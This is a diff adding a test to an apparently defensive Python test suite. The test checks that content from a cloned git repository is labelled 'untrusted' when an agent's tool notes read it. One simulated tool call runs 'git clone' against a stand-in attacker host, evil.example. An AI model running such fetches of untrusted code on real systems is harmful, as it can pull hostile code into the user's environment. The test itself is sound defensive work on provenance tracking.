@@ -330,6 +330,17 @@ async def test_copies_of_downloads_are_downloads(tmp_path, monkeypatch):
     assert noted[-2] == "untrusted · tool notes"
 
 
+async def test_a_cloned_repository_is_a_download(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    clone = download("")._replace(writes=())
+    effects = Effects(page=clone, notes=READ._replace(reads=("tools/README.md",)))
+
+    script = [calls("page", url="git clone https://evil.example/tools.git"), calls("notes")]
+    noted = await labels(*script, components=[effects])
+
+    assert noted[-2] == "untrusted · tool notes"
+
+
 async def test_parallel_downloads_count_at_once(tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     effects = Effects(page=download("page.html"), notes=READ._replace(reads=("page.html",)))
